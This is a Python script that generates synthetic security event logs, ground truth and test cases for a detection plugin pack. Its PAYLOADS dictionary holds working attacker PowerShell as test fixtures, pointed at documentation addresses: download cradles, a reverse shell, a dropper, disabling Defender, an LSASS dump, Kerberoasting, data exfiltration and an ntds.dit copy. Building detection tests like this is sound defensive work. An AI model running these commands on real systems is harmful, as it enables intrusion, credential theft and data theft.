#!/usr/bin/env python3
"""Generate the starter pack's sample events, ground truth and test cases.

Run from anywhere (paths are relative to this file):

    python3 plugins/starter-pack/generate_events.py

It (re)writes, deterministically (fixed seed, no wall clock, standard
library only):

* ``events.jsonl``       about 1,000 synthetic but realistic security events
                         from one day (2026-11-20 UTC), sorted by time: Sysmon
                         1/3/22 and Security 4688/4624/4625 in the EVTX-as-JSON
                         rendering, plus Linux sshd logons in an ECS-like shape.
* ``events.truth.json``  every planted malicious event: 1-based line, plugin,
                         rule id and a short scenario description.
* ``cases/<name>/events.jsonl`` and ``cases/<name>/expected.json``: three
  small focused test cases (``encoded-powershell``, ``brute-force``,
  ``ioc-match``) in the format ``vigil test`` reads.

Before writing anything the script re-derives every finding with a Python
re-implementation of the three starter detectors (same rules, thresholds and
indicator lists as pack.toml) and stops if that differs from what was
planted. It also runs stricter "near miss" checks on every benign event so
that small differences between implementations (window edges, flag
prefixes, substring matches) cannot turn benign noise into findings.
"""

from __future__ import annotations

import base64
import calendar
import gzip
import hashlib
import json
import random
import re
import sys
from collections import Counter, defaultdict
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 20261120

DAY = "2026-11-20"
DAY_EPOCH = calendar.timegm((2026, 11, 20, 0, 0, 0))
US = 1_000_000

# --- plugins, rules and indicators (must match pack.toml) -------------------

P_PS, P_BF, P_IOC = "encoded-powershell", "brute-force", "ioc-match"
R_ENC = "vigil.powershell.encoded-command"
R_OBF = "vigil.powershell.obfuscated-command"
R_BF = "vigil.auth.brute-force-success"
R_DOM, R_IP, R_HASH = "vigil.ioc.domain", "vigil.ioc.ip", "vigil.ioc.hash"

IOC_DOMAINS = ("kxvrnet.top", "secure-auth.click", "files.paste-drop.example")
IOC_IPS = ("203.0.113.66", "198.51.100.23", "192.0.2.200")
IOC_SHA256 = (
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
)
BF_THRESHOLD, BF_WINDOW = 5, 300
MIN_PAYLOAD = 16

SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = {"Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"}
SECURITY_PROVIDER = {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}

# --- time helpers ------------------------------------------------------------


def at(h, m=0, s=0, ms=0, us=0):
    """Microseconds since 2026-11-20T00:00:00Z."""
    return ((h * 60 + m) * 60 + s) * US + ms * 1000 + us


def _hms(t):
    s, us = divmod(t, US)
    h, s = divmod(s, 3600)
    m, s = divmod(s, 60)
    if not 0 <= h < 24:
        raise ValueError(f"time {t} is not on {DAY}")
    return h, m, s, us


def iso_us(t):
    h, m, s, us = _hms(t)
    return f"{DAY}T{h:02d}:{m:02d}:{s:02d}.{us:06d}Z"


def iso_ms(t):
    h, m, s, us = _hms(t)
    return f"{DAY}T{h:02d}:{m:02d}:{s:02d}.{us // 1000:03d}Z"


def sysmon_utc(t):
    h, m, s, us = _hms(t)
    return f"{DAY} {h:02d}:{m:02d}:{s:02d}.{us // 1000:03d}"


def syslog_ts(t):
    h, m, s, _ = _hms(t)
    return f"Nov 20 {h:02d}:{m:02d}:{s:02d}"


def epoch_s(t):
    return DAY_EPOCH + t // US


# --- payload helpers ---------------------------------------------------------


def ps_b64(script):
    """What -EncodedCommand expects: Base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def gzip_b64(text):
    return base64.b64encode(gzip.compress(text.encode("utf-8"), compresslevel=9, mtime=0)).decode("ascii")


def _hexd(algo, data):
    return hashlib.new(algo, data).hexdigest().upper()


def hashes_for(key, sha256=None):
    """A Sysmon Hashes value; stable per binary so repeated runs look real."""
    b = ("vigil-starter-pack/" + key.lower()).encode()
    return "SHA1={},MD5={},SHA256={},IMPHASH={}".format(
        _hexd("sha1", b), _hexd("md5", b), (sha256 or _hexd("sha256", b)).upper(), _hexd("md5", b"imphash/" + b)
    )


def basename(path):
    return path.replace("/", "\\").rsplit("\\", 1)[-1]


# A real DOS header + stub, used as the "blob" an obfuscated loader decodes.
MZ_STUB = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00@"
    + b"\x00" * 35
    + b"\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7
)

# Attacker payloads hidden behind -EncodedCommand (decoded scripts). URLs use
# documentation address space / .example names that are NOT indicators,
# except where a story needs the indicator domain (it is invisible in Base64).
PAYLOADS = {
    "cradle_kxvr": "IEX (New-Object Net.WebClient).DownloadString('https://update.kxvrnet.top/news.php?id=4471')",
    "cradle_paste": "IEX (New-Object Net.WebClient).DownloadString('https://files.paste-drop.example/raw/Xk2p9dQe')",
    "ua_beacon": (
        "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');"
        "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;"
        "IEX $wc.DownloadString('https://203.0.113.200/jquery-3.3.1.min.js')"
    ),
    "revshell": (
        "$c=New-Object Net.Sockets.TCPClient('192.0.2.55',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"
        "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
        "$o=(iex $d 2>&1|Out-String);$r=[Text.Encoding]::ASCII.GetBytes($o+'PS '+(pwd).Path+'> ');$s.Write($r,0,$r.Length);$s.Flush()};$c.Close()"
    ),
    "dropper": (
        "Invoke-WebRequest -Uri 'http://198.51.100.140:8080/u.exe' -OutFile \"$env:TEMP\\u.exe\" -UseBasicParsing;"
        "Start-Process \"$env:TEMP\\u.exe\" -WindowStyle Hidden"
    ),
    "defender_off": (
        "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\Intel' -Force;"
        "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"
    ),
    "recon": (
        "whoami /all;net group 'Domain Admins' /domain;nltest /dclist:corp.example;"
        "Get-CimInstance Win32_ComputerSystem | Select-Object Domain,UserName"
    ),
    "gzip_stager": (
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
        + gzip_b64("$u='https://203.0.113.200/a';$d=(New-Object Net.WebClient).DownloadData($u);[Reflection.Assembly]::Load($d)")
        + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    ),
    "lsass_dump": (
        "$p=Get-Process lsass;rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p.Id C:\\Windows\\Temp\\dbg.dmp full;"
        "Compress-Archive C:\\Windows\\Temp\\dbg.dmp C:\\Users\\Public\\dbg.zip"
    ),
    "kerberoast": (
        "IEX (New-Object System.Net.WebClient).DownloadString('http://192.0.2.55/Invoke-Kerberoast.ps1');"
        "Invoke-Kerberoast -OutputFormat Hashcat | Out-File C:\\Users\\Public\\k.txt"
    ),
    "bits_dll": (
        "Start-BitsTransfer -Source 'http://198.51.100.140/svc.dll' -Destination 'C:\\Users\\Public\\svc.dll';"
        "rundll32.exe C:\\Users\\Public\\svc.dll,Start"
    ),
    "run_key": (
        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'IntelGfxUpdate' "
        "-Value 'C:\\ProgramData\\Intel\\igfxupd.exe /silent' -PropertyType String -Force"
    ),
    "reflective": (
        "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.200/r.bin');"
        "$a=[Reflection.Assembly]::Load($d);$a.EntryPoint.Invoke($null,@(,[string[]]@()))"
    ),
    "exfil": (
        "Compress-Archive -Path \"$env:USERPROFILE\\Documents\" -DestinationPath \"$env:TEMP\\d.zip\" -Force;"
        "Invoke-RestMethod -Uri 'https://203.0.113.200/upload' -Method Post -InFile \"$env:TEMP\\d.zip\""
    ),
    "ad_dump": (
        "Import-Module ActiveDirectory;Get-ADUser -Filter * -Properties * | "
        "Export-Csv \"$env:TEMP\\u.csv\" -NoTypeInformation;Get-ADComputer -Filter * | Export-Csv \"$env:TEMP\\c.csv\""
    ),
    "schtask": (
        "schtasks /create /tn 'OneDrive Standalone Update Task-S-1-5-21' /tr 'C:\\ProgramData\\Intel\\igfxupd.exe /silent' "
        "/sc onlogon /ru SYSTEM /f"
    ),
    "sql_stage": (
        "$u='http://198.51.100.140/s.ps1';$t=\"$env:TEMP\\s.ps1\";(New-Object Net.WebClient).DownloadFile($u,$t);"
        "powershell -ExecutionPolicy Bypass -File $t"
    ),
    "dc_shadow": "vssadmin create shadow /for=C:;copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\n.dit",
    "whoami": "whoami",
}

PS_EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PWSH_EXE = "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
CMD_EXE = "C:\\Windows\\System32\\cmd.exe"
CONHOST_EXE = "C:\\Windows\\System32\\conhost.exe"
SVCHOST_EXE = "C:\\Windows\\System32\\svchost.exe"
CHROME_EXE = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE_EXE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
WEBVIEW_EXE = "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\142.0.3595.80\\msedgewebview2.exe"
TEAMS_EXE = "C:\\Program Files\\WindowsApps\\MSTeams_25290.205.4069.4894_x64__8wekyb3d8bbwe\\ms-teams.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
GIT_EXE = "C:\\Program Files\\Git\\cmd\\git.exe"
NODE_EXE = "C:\\Program Files\\nodejs\\node.exe"
WMIPRVSE_EXE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"

# --- binary metadata for Sysmon 1 -------------------------------------------

MS = "Microsoft Corporation"
WINPROD = "Microsoft\u00ae Windows\u00ae Operating System"


def _wv(build):
    return f"10.0.26100.{build} (WinBuild.160101.0800)"


BIN = {
    "chrome.exe": ("142.0.7444.176", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "msedge.exe": ("142.0.3595.80", "Microsoft Edge", "Microsoft Edge", MS, "msedge.exe"),
    "msedgewebview2.exe": ("142.0.3595.80", "Microsoft Edge WebView2", "Microsoft Edge WebView2", MS, "msedgewebview2.exe"),
    "ms-teams.exe": ("25290.205.4069.4894", "Microsoft Teams", "Microsoft Teams", MS, "ms-teams.exe"),
    "svchost.exe": (_wv(1882), "Host Process for Windows Services", WINPROD, MS, "svchost.exe"),
    "explorer.exe": (_wv(2454), "Windows Explorer", WINPROD, MS, "EXPLORER.EXE"),
    "cmd.exe": (_wv(1), "Windows Command Processor", WINPROD, MS, "Cmd.Exe"),
    "conhost.exe": (_wv(2454), "Console Window Host", WINPROD, MS, "CONHOST.EXE"),
    "powershell.exe": (_wv(1), "Windows PowerShell", WINPROD, MS, "PowerShell.EXE"),
    "pwsh.exe": ("7.5.4.500", "pwsh", "PowerShell", MS, "pwsh.dll"),
    "git.exe": ("2.51.2.1", "Git for Windows", "Git", "The Git Development Community", "git.exe"),
    "python.exe": ("3.12.10", "Python", "Python", "Python Software Foundation", "python.exe"),
    "node.exe": ("22.21.1", "Node.js JavaScript Runtime", "Node.js", "Node.js", "node.exe"),
    "code.exe": ("1.106.2", "Visual Studio Code", "Visual Studio Code", MS, "electron.exe"),
    "dllhost.exe": (_wv(1), "COM Surrogate", WINPROD, MS, "dllhost.exe"),
    "runtimebroker.exe": (_wv(2454), "Runtime Broker", WINPROD, MS, "RuntimeBroker.exe"),
    "backgroundtaskhost.exe": (_wv(1), "Background Task Host", WINPROD, MS, "backgroundTaskHost.exe"),
    "taskhostw.exe": (_wv(2454), "Host Process for Windows Tasks", WINPROD, MS, "taskhostw.exe"),
    "wmiprvse.exe": (_wv(1882), "WMI Provider Host", WINPROD, MS, "Wmiprvse.exe"),
    "searchprotocolhost.exe": (_wv(2454), "Microsoft Windows Search Protocol Host", WINPROD, MS, "SearchProtocolHost.exe"),
    "searchfilterhost.exe": (_wv(2454), "Microsoft Windows Search Filter Host", WINPROD, MS, "SearchFilterHost.exe"),
    "mpcmdrun.exe": ("4.18.25090.3009 (d8d2f0b7d2ce0c5d2b3a1b7e5b9f6a1c3d4e5f60)", "Microsoft Malware Protection Command Line Utility", WINPROD, MS, "MpCmdRun.exe"),
    "onedrivestandaloneupdater.exe": ("25.194.1005.0002", "Microsoft OneDrive Standalone Updater", "Microsoft OneDrive", MS, "OneDriveStandaloneUpdater.exe"),
    "outlook.exe": ("16.0.19328.20190", "Microsoft Outlook", "Microsoft Office", MS, "Outlook.exe"),
    "winword.exe": ("16.0.19328.20190", "Microsoft Word", "Microsoft Office", MS, "WinWord.exe"),
    "excel.exe": ("16.0.19328.20190", "Microsoft Excel", "Microsoft Office", MS, "Excel.exe"),
    "notepad.exe": (_wv(4202), "Notepad", WINPROD, MS, "NOTEPAD.EXE"),
    "mmc.exe": (_wv(1), "Microsoft Management Console", WINPROD, MS, "mmc.exe"),
    "mstsc.exe": (_wv(2454), "Remote Desktop Connection", WINPROD, MS, "mstsc.exe"),
    "ipconfig.exe": (_wv(1), "IP Configuration Utility", WINPROD, MS, "ipconfig.exe"),
    "nslookup.exe": (_wv(1), "nslookup", WINPROD, MS, "nslookup.exe"),
    "whoami.exe": (_wv(1), "whoami - displays logged on user information", WINPROD, MS, "whoami.exe"),
    "gpupdate.exe": (_wv(1), "Microsoft\u00ae Windows Group Policy Update Utility", WINPROD, MS, "GPUpdate.exe"),
    "net.exe": (_wv(1), "Net Command", WINPROD, MS, "net.exe"),
    "net1.exe": (_wv(1), "Net Command", WINPROD, MS, "net1.exe"),
    "mshta.exe": (_wv(2454), "Microsoft (R) HTML Application host", WINPROD, MS, "MSHTA.EXE"),
    "consent.exe": (_wv(2454), "Consent UI for administrative applications", WINPROD, MS, "consent.exe"),
    "ctfmon.exe": (_wv(1), "CTF Loader", WINPROD, MS, "CTFMON.EXE"),
    "sppsvc.exe": (_wv(2454), "Microsoft Software Protection Platform Service", WINPROD, MS, "sppsvc.exe"),
}

RULE_NAMES = {
    "powershell.exe": "technique_id=T1059.001,technique_name=PowerShell",
    "pwsh.exe": "technique_id=T1059.001,technique_name=PowerShell",
    "cmd.exe": "technique_id=T1059.003,technique_name=Windows Command Shell",
    "mshta.exe": "technique_id=T1218.005,technique_name=Mshta",
    "net.exe": "technique_id=T1018,technique_name=Remote System Discovery",
    "whoami.exe": "technique_id=T1033,technique_name=System Owner/User Discovery",
    "mstsc.exe": "technique_id=T1021.001,technique_name=Remote Desktop Protocol",
}

# --- accounts and hosts ------------------------------------------------------

DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
ACCOUNT_RID = {
    "administrator": 500, "alice": 1104, "bob": 1105, "carol": 1106, "dave": 1107, "erin": 1108,
    "frank": 1109, "grace": 1110, "heidi": 1111, "henry": 1112, "ivan": 1113, "judy": 1114,
    "svc_backup": 1120, "svc_sql": 1121, "svc_web": 1122,
}
WELL_KNOWN = {
    "SYSTEM": ("NT AUTHORITY\\SYSTEM", 0x3E7, "System", 0),
    "LOCAL SERVICE": ("NT AUTHORITY\\LOCAL SERVICE", 0x3E5, "System", 0),
    "NETWORK SERVICE": ("NT AUTHORITY\\NETWORK SERVICE", 0x3E4, "System", 0),
}


def user_sid(name):
    return f"{DOMAIN_SID}-{ACCOUNT_RID[name]}"


# (name, ip, owner, browser, role)
WORKSTATIONS = [
    ("WS-ALICE", "10.20.1.11", "alice", "chrome", "office"),
    ("WS-BOB", "10.20.1.12", "bob", "edge", "office"),
    ("WS-CAROL", "10.20.1.13", "carol", "chrome", "office"),
    ("WS-DAVE", "10.20.1.14", "dave", "chrome", "dev"),
    ("WS-ERIN", "10.20.1.15", "erin", "edge", "dev"),
    ("WS-FRANK", "10.20.1.16", "frank", "chrome", "office"),
    ("WS-GRACE", "10.20.1.17", "grace", "edge", "admin"),
    ("WS-HEIDI", "10.20.1.18", "heidi", "edge", "office"),
]
USER_IPS = {owner: ip for _, ip, owner, _, _ in WORKSTATIONS}
USER_IPS.update({"henry": "10.20.1.19", "ivan": "10.20.1.20", "judy": "10.20.1.21"})
SERVERS = [
    ("DC01", "10.20.0.10"), ("FS01", "10.20.0.21"), ("SQL01", "10.20.0.30"),
    ("RDS01", "10.20.0.40"), ("APP01", "10.20.0.50"),
]
LINUX_HOSTS = [("bastion-01", "10.20.9.10"), ("web-01", "10.20.9.21"), ("web-02", "10.20.9.22"), ("db-01", "10.20.9.31")]
ANSIBLE_IP, JENKINS_IP = "10.20.0.60", "10.20.0.70"

# Internet background noise against the bastion: documentation addresses
# that are neither indicators nor attacker infrastructure of the scenarios.
SCANNER_IPS = [
    "203.0.113.12", "203.0.113.87", "203.0.113.150", "203.0.113.201", "198.51.100.9", "198.51.100.181",
    "198.51.100.54", "192.0.2.77", "192.0.2.130", "192.0.2.164",
]
SCANNER_USERS = ["root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "ftpuser", "git", "pi", "support", "guest"]
LINUX_REAL_USERS = {"root", "deploy", "ansible", "jenkins", "grace", "dave", "erin", "bob", "postgres", "www-data"}


class Ev:
    __slots__ = ("t", "seq", "kind", "obj", "findings")

    def __init__(self, t, seq, kind, obj, findings):
        self.t, self.seq, self.kind, self.obj, self.findings = t, seq, kind, obj, findings


class WinHost:
    def __init__(self, rng, name, ip, owner=None, browser=None, role="server"):
        self.name, self.ip, self.owner, self.browser, self.role = name, ip, owner, browser, role
        self.fqdn = name + ".corp.example"
        self.hostid = "%08x" % rng.getrandbits(32)
        self.sysmon_pid = 4 * rng.randint(700, 1400)
        self.sysmon_tids = sorted(4 * rng.randint(800, 2600) for _ in range(3))
        self.lsass_pid = 4 * rng.randint(150, 260)
        self.sec_tids = sorted(4 * rng.randint(20, 900) for _ in range(4))
        self.boot = DAY_EPOCH - rng.randint(36 * 3600, 5 * 86400)
        self.counter = rng.randint(0x400, 0x1400)
        self.procs = {}
        self.idents = {}
        self.cache = {}


class LinuxHost:
    def __init__(self, rng, name, ip):
        self.name, self.ip = name, ip
        self.next_pid = rng.randint(18000, 40000)


class World:
    """Hosts, long-running processes and the events emitted so far."""

    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.events = []
        self.seq = 0
        self.pids_used = set()
        r = self.rng
        self.ws = {n: WinHost(r, n, ip, owner, browser, role) for n, ip, owner, browser, role in WORKSTATIONS}
        self.srv = {n: WinHost(r, n, ip) for n, ip in SERVERS}
        self.lx = {n: LinuxHost(r, n, ip) for n, ip in LINUX_HOSTS}
        self.logon_ids = {}
        for h in self.ws.values():
            self._init_workstation(h)
        for h in self.srv.values():
            self._init_server(h)

    # -- plumbing --

    def add(self, t, kind, obj, findings=()):
        self.events.append(Ev(t, self.seq, kind, obj, list(findings)))
        self.seq += 1

    def count(self, kind):
        return sum(1 for e in self.events if e.kind == kind)

    def new_pid(self):
        while True:
            pid = 4 * self.rng.randint(260, 9800)
            if pid not in self.pids_used:
                self.pids_used.add(pid)
                return pid

    def new_logon_id(self):
        return "0x%x" % self.rng.randint(0x1A0000, 0x2FFFFFF)

    def ident(self, host, who, integrity=None):
        key = (who, integrity)
        if key not in host.idents:
            if who in WELL_KNOWN:
                user, lid, integ, sess = WELL_KNOWN[who]
            elif who.startswith("IIS APPPOOL\\"):
                user, lid, integ, sess = who, self.rng.randint(0x1A0000, 0x2FFFFFF), "High", 0
            else:
                base = host.idents.get((who, None))
                lid = int(base["logon_id"], 16) if base else int(self.new_logon_id(), 16)
                user, integ, sess = "CORP\\" + who, "Medium", 1 if who == host.owner else 0
                if base:
                    sess = base["session"]
            lo = lid & 0xFFFF
            host.idents[key] = {
                "user": user,
                "logon_id": "0x%x" % lid,
                "logon_guid": "{%s-%04x-%04x-%02x%02x-%012x}"
                % (host.hostid, host.boot & 0xFFFF, (host.boot >> 16) & 0xFFFF, lo & 0xFF, lo >> 8, lid >> 16),
                "session": sess,
                "integrity": integrity or integ,
            }
        return host.idents[key]

    def spawn(self, host, t_epoch, image, cmd, who, cwd=None, integrity=None, meta=None, sha256=None, pid=None):
        idn = self.ident(host, who, integrity)
        host.counter += self.rng.randint(1, 48)
        if cwd is None:
            cwd = f"C:\\Users\\{who}\\" if who in ACCOUNT_RID else "C:\\Windows\\system32\\"
        return {
            "pid": pid or self.new_pid(),
            "guid": "{%s-%04x-%04x-%04x-%010x00}"
            % (host.hostid, t_epoch & 0xFFFF, (t_epoch >> 16) & 0xFFFF, self.rng.getrandbits(16), host.counter),
            "image": image,
            "cmd": cmd,
            "cwd": cwd,
            "meta": meta,
            "hashes": hashes_for(image + "|" + (meta or BIN.get(basename(image).lower(), ("?",)))[0], sha256),
            **idn,
        }

    def _init_workstation(self, h):
        r = self.rng
        t0 = h.boot
        h.procs["services"] = self.spawn(h, t0 + 6, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", "SYSTEM")
        h.procs["dcom"] = self.spawn(h, t0 + 7, SVCHOST_EXE, "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "SYSTEM")
        h.procs["sched"] = self.spawn(h, t0 + 9, SVCHOST_EXE, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "SYSTEM")
        h.procs["msmpeng"] = self.spawn(
            h, t0 + 12, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe",
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe\"", "SYSTEM")
        h.procs["lsass"] = self.spawn(h, t0 + 5, "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", "SYSTEM")
        h.procs["indexer"] = self.spawn(h, t0 + 30, "C:\\Windows\\System32\\SearchIndexer.exe",
                                        "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "SYSTEM")
        tl = t0 + r.randint(120, 900)
        u = h.owner
        h.procs["userinit"] = self.spawn(h, tl, "C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", u)
        h.procs["explorer"] = self.spawn(h, tl + 1, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", u,
                                         cwd="C:\\Windows\\system32\\")
        if h.browser == "chrome":
            h.procs["browser"] = self.spawn(h, tl + 40, CHROME_EXE, f"\"{CHROME_EXE}\" ", u,
                                            cwd="C:\\Program Files\\Google\\Chrome\\Application\\142.0.7444.176\\")
        else:
            h.procs["browser"] = self.spawn(h, tl + 40, EDGE_EXE, f"\"{EDGE_EXE}\" --profile-directory=Default", u,
                                            cwd="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\142.0.3595.80\\")
        h.procs["teams"] = self.spawn(h, tl + 35, TEAMS_EXE, f"\"{TEAMS_EXE}\" msteams:system-initiated", u)
        h.procs["webview"] = self.spawn(
            h, tl + 37, WEBVIEW_EXE,
            f"\"{WEBVIEW_EXE}\" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --webview-exe-version=25290.205.4069.4894 "
            f"--user-data-dir=\"C:\\Users\\{u}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\EBWebView\" "
            "--noerrdialogs --embedded-browser-webview-dpi-awareness=2 --autoplay-policy=no-user-gesture-required --lang=en-US "
            "--mojo-named-platform-channel-pipe=19884.20112.8841920345110987643", u)
        h.procs["outlook"] = self.spawn(h, tl + 60, OFFICE + "OUTLOOK.EXE", f"\"{OFFICE}OUTLOOK.EXE\" ", u)
        h.procs["onedrive"] = self.spawn(
            h, tl + 20, f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            f"\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", u)
        if h.role == "dev":
            code = f"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"
            h.procs["code"] = self.spawn(h, tl + 400, code, f"\"{code}\" ", u)
        h.cache["fth"] = "--field-trial-handle=%d,i,%d,%d,262144" % (
            r.choice((1928, 1964, 2008, 2132)), r.getrandbits(63), r.getrandbits(63))
        h.cache["wv_fth"] = "--field-trial-handle=%d,i,%d,%d,262144" % (
            r.choice((2076, 2104, 2240)), r.getrandbits(63), r.getrandbits(63))
        h.cache["epoch_ticks"] = r.randint(1_763_000_000_000_000, 1_763_900_000_000_000)
        h.cache["renderer_id"] = r.randint(8, 40)

    def _init_server(self, h):
        r = self.rng
        h.cache["pids"] = {
            "services": 4 * r.randint(150, 220), "sched": 4 * r.randint(300, 500), "dcom": 4 * r.randint(220, 300),
            "winlogon": 4 * r.randint(140, 200), "termsvc": 4 * r.randint(500, 700), "w3svc": 4 * r.randint(900, 1300),
        }

    # -- Windows event envelopes --

    def _system(self, host, t, provider, eid, version, task, keywords, level, channel, pid, tid):
        return {
            "Provider": {"#attributes": dict(provider)},
            "EventID": eid,
            "Version": version,
            "Level": level,
            "Task": task,
            "Opcode": 0,
            "Keywords": keywords,
            "TimeCreated": {"#attributes": {"SystemTime": iso_us(t)}},
            "EventRecordID": 0,  # assigned after sorting, increasing per channel
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": tid}},
            "Channel": channel,
            "Computer": host.fqdn,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        }

    def _sysmon(self, host, t, eid, data, kind, findings):
        sysblk = self._system(host, t, SYSMON_PROVIDER, eid, 5, eid, "0x8000000000000000", 4, SYSMON_CHANNEL,
                              host.sysmon_pid, self.rng.choice(host.sysmon_tids))
        self.add(t, kind, {"Event": {"System": sysblk, "EventData": data}}, findings)

    def _security(self, host, t, eid, data, kind, findings, success=True):
        version, task = {4688: (2, 13312), 4624: (2, 12544), 4625: (0, 12544)}[eid]
        pid = 4 if eid == 4688 else host.lsass_pid
        keywords = "0x8020000000000000" if success else "0x8010000000000000"
        sysblk = self._system(host, t, SECURITY_PROVIDER, eid, version, task, keywords, 0, "Security", pid,
                              self.rng.choice(host.sec_tids))
        self.add(t, kind, {"Event": {"System": sysblk, "EventData": data}}, findings)

    # -- Sysmon --

    def proc(self, host, t, p, parent, findings=(), rulename=None):
        name = basename(p["image"]).lower()
        meta = p["meta"] or BIN.get(name, ("-", "-", "-", "-", "-"))
        data = {
            "RuleName": rulename or RULE_NAMES.get(name, "-"),
            "UtcTime": sysmon_utc(t - self.rng.randint(300, 2500)),
            "ProcessGuid": p["guid"],
            "ProcessId": p["pid"],
            "Image": p["image"],
            "FileVersion": meta[0],
            "Description": meta[1],
            "Product": meta[2],
            "Company": meta[3],
            "OriginalFileName": meta[4],
            "CommandLine": p["cmd"],
            "CurrentDirectory": p["cwd"],
            "User": p["user"],
            "LogonGuid": p["logon_guid"],
            "LogonId": p["logon_id"],
            "TerminalSessionId": p["session"],
            "IntegrityLevel": p["integrity"],
            "Hashes": p["hashes"],
            "ParentProcessGuid": parent["guid"],
            "ParentProcessId": parent["pid"],
            "ParentImage": parent["image"],
            "ParentCommandLine": parent["cmd"],
            "ParentUser": parent["user"],
        }
        self._sysmon(host, t, 1, data, "sysmon1", findings)
        return p

    def run(self, host, t, image, cmd, who, parent, findings=(), **kw):
        """Spawn a process at time t and emit its Sysmon 1 event."""
        p = self.spawn(host, epoch_s(t), image, cmd, who, **kw)
        return self.proc(host, t, p, parent, findings)

    def net(self, host, t, p, dst_ip, dst_port, dst_host="-", proto="tcp", inbound=False, peer_ip=None,
            peer_host="-", findings=()):
        r = self.rng
        if inbound:
            src = (peer_ip, peer_host, r.randint(49152, 65535))
            dst = (host.ip, host.fqdn, dst_port)
        else:
            src = (host.ip, host.fqdn, r.randint(49152, 65535))
            dst = (dst_ip, dst_host, dst_port)
        data = {
            "RuleName": "-",
            "UtcTime": sysmon_utc(t - r.randint(20_000, 900_000)),
            "ProcessGuid": p["guid"],
            "ProcessId": p["pid"],
            "Image": p["image"],
            "User": p["user"],
            "Protocol": proto,
            "Initiated": not inbound,
            "SourceIsIpv6": False,
            "SourceIp": src[0],
            "SourceHostname": src[1],
            "SourcePort": src[2],
            "DestinationIsIpv6": False,
            "DestinationIp": dst[0],
            "DestinationHostname": dst[1],
            "DestinationPort": dst[2],
        }
        self._sysmon(host, t, 3, data, "sysmon3", findings)

    def dns(self, host, t, p, name, results, findings=()):
        data = {
            "RuleName": "-",
            "UtcTime": sysmon_utc(t - self.rng.randint(200, 3000)),
            "ProcessGuid": p["guid"],
            "ProcessId": p["pid"],
            "QueryName": name,
            "QueryStatus": "0",
            "QueryResults": results,
            "Image": p["image"],
            "User": p["user"],
        }
        self._sysmon(host, t, 22, data, "sysmon22", findings)

    # -- Security --

    def subject(self, host, who):
        if who == "SYSTEM":
            return ("S-1-5-18", host.name + "$", "CORP", "0x3e7")
        if who.startswith("IIS APPPOOL\\"):
            pool = who.split("\\", 1)[1]
            digest = hashlib.sha1(pool.lower().encode()).digest()
            rid = "-".join(str(int.from_bytes(digest[i:i + 4], "little")) for i in range(0, 20, 4))
